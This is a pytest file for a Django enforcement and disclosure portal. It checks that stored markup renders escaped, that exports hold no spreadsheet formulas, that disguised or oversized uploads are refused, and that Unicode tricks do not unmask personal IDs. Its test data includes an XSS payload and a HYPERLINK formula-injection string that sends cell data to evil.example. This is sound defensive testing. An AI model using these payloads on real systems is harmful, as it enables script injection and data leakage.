"""Named bad-input cases (issue #11): markup in every text field, formulas in every export,
oversized and mislabelled uploads, malformed dates and amounts, Unicode oddities."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models, transaction
from django.db.models import Value
from django.db.models.functions import Cast, Concat
from django.test import Client
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from disclosure.models import Publication
from enforcement_portal.exports import FORMULA_PREFIXES
from enforcement_portal.models import AuditEvent
from powers.models import ImportJob
from reports.models import Report
from tests.disclosure.factories import PublicationFactory
from tests.disclosure.factories import publish as disclosure_publish
from tests.reports.factories import challenge_from, png_with_text
from workflows.models import Case, Record
from workflows.validators import validate_party

from .matrix import AGENCY_ARGS, SHARED_ARGS, is_skipped, walk
from .test_permission_matrix import EXPECTED
from .world import ROLES

CJK = re.compile(r"[\u4e00-\u9fff]")
APPS = {"core", "powers", "discretion", "workflows", "disclosure", "oversight"}
# Fields that name things in URLs or are parsed as data rather than shown as text.
NOT_TEXT = {"code", "number", "slug", "uscc", "certificate_number", "sha256", "file", "password"}
MARK = "<x-xss>"
SCRIPT = MARK + '<script>alert("xss")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def text_fields():
    for model in apps.get_models():
        if model._meta.app_label not in APPS or model._meta.proxy:
            continue
        if model._meta.label == "core.AuditEvent":
            continue  # append-only; its names come from the users' fields filled below
        names = [
            f.name
            for f in model._meta.concrete_fields
            if type(f) in (models.CharField, models.TextField)  # not derived (search arrays)
            and not f.choices
            and not f.unique
            and not f.primary_key
            and f.name not in NOT_TEXT
            and not f.name.endswith(("_code", "_number", "_uscc", "hash", "_id"))
            and (f.max_length or 1000) >= len(MARK) + 12
        ]
        if names:
            yield model, [model._meta.get_field(n) for n in names]


def fill_every_text_field(value: str) -> int:
    """Overwrite every free-text field of every row (in the caller's transaction)."""
    filled = 0
    for model, fields in text_fields():
        for f in fields:
            # Each row's own value (the payload, then its pk), so unique constraints hold;
            # empty fields stay empty, so constraints on what must be blank hold too.
            payload = Concat(
                Value(value[: (f.max_length or 10**6) - 12]),
                Cast("pk", models.CharField()),
                output_field=models.CharField(),
            )
            rows = model._default_manager.exclude(**{f.name: ""}).exclude(**{f.name: None})
            filled += rows.update(**{f.name: payload}) and 1
    return filled


def get_pages(world):
    """(name, path, roles that may open it) for every GET page of the permission matrix."""
    for route in walk():
        name = route.name
        if is_skipped(name) or "<unnamed" in name or name not in EXPECTED:
            continue
        if name.endswith(("_pdf", "legal_opinion", "document_download", "record_file")):
            continue  # files, not pages
        rows = EXPECTED[name]
        if name in AGENCY_ARGS:
            variants = {"A": AGENCY_ARGS[name](world.own), "B": AGENCY_ARGS[name](world.other)}
        else:
            variants = {"-": SHARED_ARGS[name](world) if name in SHARED_ARGS else {}}
        for variant, kwargs in variants.items():
            letters = rows[variant]
            roles = [r for r, c in zip(ROLES, letters, strict=True) if c == "2"]
            if roles:
                yield name, reverse(name, kwargs=kwargs), roles


def test_markup_in_every_text_field_is_rendered_escaped(world_db):
    world = world_db
    with transaction.atomic():
        assert fill_every_text_field(SCRIPT) > 50
        clients = {}
        checked = 0
        for role in ("anon", "admin", "filer", "handler"):
            client = Client(raise_request_exception=False)
            if role != "anon":
                client.force_login(world.users[role])
            clients[role] = client
        for name, path, roles in get_pages(world):
            for role in [r for r in ("anon", "admin", "filer", "handler") if r in roles][:2]:
                response = clients[role].get(path)
                if response.streaming:
                    continue  # a file download, not a page
                body = response.content.decode("utf-8", "replace")
                assert response.status_code != 500, f"{name} as {role}: 500"
                if response.get("Content-Type", "").startswith("text/html"):
                    assert MARK not in body and "<script>alert" not in body, (
                        f"{name} ({path}) as {role} shows markup from the data unescaped"
                    )
                    checked += 1
        assert checked > 60
        transaction.set_rollback(True)


def _cells_of(response):
    ctype = response["Content-Type"]
    if "spreadsheetml" in ctype:
        book = load_workbook(io.BytesIO(response.content))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value}"
                    yield cell.value
    elif "csv" in ctype:
        text = response.content.decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text)):
            yield from row
    else:
        raise AssertionError(f"not an export: {ctype}")


def test_no_export_carries_a_formula(world_db):
    world = world_db
    exports = [
        ("filer", reverse("powers:export")),
        ("filer", reverse("powers:export") + "?format=csv"),
        ("filer", reverse("discretion:export")),
        ("supervisor", reverse("oversight:dashboard") + "?format=xlsx"),
        ("anon", reverse("disclosure:open_data_powers", args=["csv"])),
        ("anon", reverse("disclosure:open_data_standards", args=["csv"])),
        ("anon", reverse("disclosure:open_data_decisions", args=["csv"])),
    ]
    with transaction.atomic():
        fill_every_text_field(FORMULA)
        # A published decision keeps the text it was published with: publish one now.
        disclosure_publish(
            PublicationFactory(
                agency=world.own.agency,
                party_name=FORMULA,
                violation_type=FORMULA,
                facts=FORMULA,
                penalty_content="-" + FORMULA,
            )
        )
        for role, path in exports:
            client = Client(raise_request_exception=False)
            if role != "anon":
                client.force_login(world.users[role])
            response = client.get(path)
            assert response.status_code == 200, (path, response.status_code)
            cells = [c for c in _cells_of(response) if isinstance(c, str)]
            assert any("HYPERLINK" in c for c in cells) or "dashboard" in path, (
                f"{path}: the text fields are not in this export; choose other data"
            )
            bad = [c for c in cells if c.startswith(FORMULA_PREFIXES)]
            assert not bad, f"{path} exports cells a spreadsheet would run: {bad[:3]}"
        transaction.set_rollback(True)


# ------------------------------------------------------------------- uploads


def _as(world, role) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(world.users[role])
    return client


def _refused_in_chinese(response, *phrases):
    html = response.content.decode()
    assert response.status_code in (200, 400), response.status_code
    for phrase in phrases:
        assert phrase in html, f"{phrase!r} not on the page"
    return html


def test_oversized_and_mislabelled_power_lists_are_refused(world_db, settings):
    client = _as(world_db, "filer")
    url = reverse("powers:import")
    settings.SPREADSHEET_MAX_BYTES = 1000
    with transaction.atomic():
        jobs = ImportJob.objects.count()
        big = SimpleUploadedFile("list.xlsx", b"PK\x03\x04" + b"0" * 2000)
        _refused_in_chinese(client.post(url, {"file": big}), "文件过大")
        exe = SimpleUploadedFile("list.exe", b"MZ\x90\x00")
        _refused_in_chinese(client.post(url, {"file": exe}), ".xlsx")
        assert ImportJob.objects.count() == jobs
        transaction.set_rollback(True)


def test_a_file_named_xlsx_that_is_not_one_fails_its_import_in_chinese(world_db):
    client = _as(world_db, "filer")
    with transaction.atomic():
        fake = SimpleUploadedFile("list.xlsx", b"<html><script>alert(1)</script></html>")
        response = client.post(reverse("powers:import"), {"file": fake})
        assert response.status_code == 302
        job = ImportJob.objects.latest("pk")
        job.refresh_from_db()
        assert job.status == ImportJob.Status.FAILED
        page = client.get(reverse("powers:import_job", args=[job.pk])).content.decode()
        assert "<script>alert(1)" not in page and CJK.search(page)
        transaction.set_rollback(True)


def test_oversized_and_mislabelled_standard_spreadsheets_are_refused(world_db, settings):
    client = _as(world_db, "filer")
    url = reverse("discretion:import")
    settings.SPREADSHEET_MAX_BYTES = 1000
    with transaction.atomic():
        audit = AuditEvent.objects.count()
        big = SimpleUploadedFile("s.xlsx", b"PK\x03\x04" + b"0" * 2000)
        _refused_in_chinese(client.post(url, {"file": big}), "文件过大")
        csv_named_xlsx = SimpleUploadedFile("s.xlsx", "权力编码,违法行为\nA,B\n".encode())
        _refused_in_chinese(client.post(url, {"file": csv_named_xlsx}), "不是.xlsx")
        assert AuditEvent.objects.count() == audit
        transaction.set_rollback(True)


def test_evidence_uploads_are_judged_by_content_and_size(world_db, settings):
    world = world_db
    client = _as(world, "officer")
    url = reverse("workflows:record_add", args=[world.own.case.pk])
    officer = world.own.case.officers.first()
    form = {
        "kind": "photo",
        "title": "现场照片",
        "recorded_at": "2026-11-02T10:00",
        "place": "现场",
        "officers": [officer.pk],
        "signature": "na",
    }
    with transaction.atomic():
        records = Record.objects.count()
        html_as_png = SimpleUploadedFile(
            "photo.png", b"<html><script>alert(1)</script>", content_type="image/png"
        )
        response = client.post(url, {**form, "upload": html_as_png})
        page = _refused_in_chinese(response)
        assert "以文件内容为准" in page, response.context["form"].errors
        settings.UPLOAD_MAX_BYTES = 100
        page = _refused_in_chinese(client.post(url, {**form, "upload": png_with_text()}))
        assert "MB" in page
        assert Record.objects.count() == records
        transaction.set_rollback(True)


def test_report_pictures_are_judged_by_content_and_size(world_db, settings):
    client = Client(raise_request_exception=False)
    url = reverse("reports_public:report_new")
    from reports.challenge import challenge_solve

    def post(picture):
        token, bits = challenge_from(client.get(url).content.decode())
        return client.post(
            url,
            {
                "challenge": token,
                "proof": challenge_solve(token, bits),
                "agency": world_db.own.agency.pk,
                "violation_type": "arbitrary_penalty",
                "subject": "乱罚款",
                "description": "没有开票据。",
                "is_anonymous": "1",
                "pictures": picture,
            },
        )

    with transaction.atomic():
        reports = Report.objects.count()
        exe_as_jpg = SimpleUploadedFile("a.jpg", b"MZ\x90\x00" * 50, content_type="image/jpeg")
        assert CJK.search(_refused_in_chinese(post(exe_as_jpg)))
        # A PNG whose chunk checksum is wrong: Pillow raises SyntaxError, which was a 500.
        broken = bytearray(png_with_text().read())
        broken[30] ^= 0xFF
        broken_png = SimpleUploadedFile("b.png", bytes(broken), content_type="image/png")
        assert CJK.search(_refused_in_chinese(post(broken_png)))
        settings.REPORTS_UPLOAD_MAX_BYTES = 50
        assert CJK.search(_refused_in_chinese(post(png_with_text())))
        assert Report.objects.count() == reports
        transaction.set_rollback(True)


# ------------------------------------------------------------------- dates and amounts


@pytest.mark.parametrize(
    "field,value",
    [
        ("decided_on", "2026-02-30"),
        ("decided_on", "2026年11月2日"),
        ("decided_on", "99999-01-01"),
        ("fine_amount", "1e309"),
        ("fine_amount", "-5000"),
        ("fine_amount", "9" * 30),
        ("fine_amount", "五万元"),
        ("confiscation_amount", "NaN"),
    ],
)
def test_malformed_dates_and_amounts_are_refused_at_the_field(world_db, field, value):
    from disclosure.forms import PublicationForm

    client = _as(world_db, "filer")
    data = {
        "kind": "penalty",
        "decision_number": "测罚〔2026〕9号",
        "party_type": "person",
        "party_name": "张三",
        "violation_type": "无证经营",
        "facts": "经查。",
        "basis": "《食品安全法》",
        "penalty_category": "罚款",
        "penalty_content": "罚款五千元",
        "fine_amount": "5000",
        "decided_on": "2026-11-02",
        field: value,
    }
    with transaction.atomic(), translation.override("zh-hans"):
        count = Publication.objects.count()
        response = client.post(reverse("disclosure:publication_create"), data)
        html = response.content.decode()
        assert response.status_code == 400
        form = response.context["form"]
        assert field in form.errors, form.errors
        label = str(PublicationForm().fields[field].label)
        assert label in html and all(CJK.search(m) for m in form.errors[field])
        assert Publication.objects.count() == count
        transaction.set_rollback(True)


# ------------------------------------------------------------------- Unicode


def test_full_width_and_zero_width_characters_in_id_numbers(world_db):
    """Full-width digits and letters (a Chinese keyboard) are the same number and are stored
    as ASCII; a zero-width character inside a number is refused with a clear message."""
    world = world_db
    ric = "230202199001011236"
    uscc = world.own.case.party_id_number
    full_width = "".join(chr(ord(c) + 0xFEE0) for c in ric)
    assert validate_party(Case.PartyKind.PERSON, full_width) == ric
    full_width_uscc = "".join(chr(ord(c) + 0xFEE0) for c in uscc)
    assert validate_party(Case.PartyKind.ORGANISATION, full_width_uscc) == uscc
    from django.core.exceptions import ValidationError

    with translation.override("zh-hans"), pytest.raises(ValidationError) as caught:
        validate_party(Case.PartyKind.PERSON, ric[:6] + "\u200b" + ric[6:])
    assert "party_id_number" in caught.value.message_dict
    assert CJK.search(caught.value.message_dict["party_id_number"][0])


def test_zero_width_and_full_width_characters_do_not_unmask_a_person(world_db):
    """A person's name and ID written with zero-width and full-width characters are still
    masked on the public decision page."""
    with transaction.atomic():
        publication = PublicationFactory(
            agency=world_db.own.agency,
            party_type=Publication.PartyType.PERSON,
            party_name="张\u200b小明",
            party_uscc="",
            facts="当事人张\u200b小明（身份证号２３０２０２１９９００１０１１２３６）无证经营。",
        )
        published = disclosure_publish(publication)
        html = Client().get(reverse("disclosure:decision", args=[published.pk])).content.decode()
        plain = html.replace("\u200b", "")
        assert "小明" not in plain and "２３０２０２１９９００１０１１２３６" not in html
        assert "230202199001011236" not in plain and "张某" in plain
        transaction.set_rollback(True)
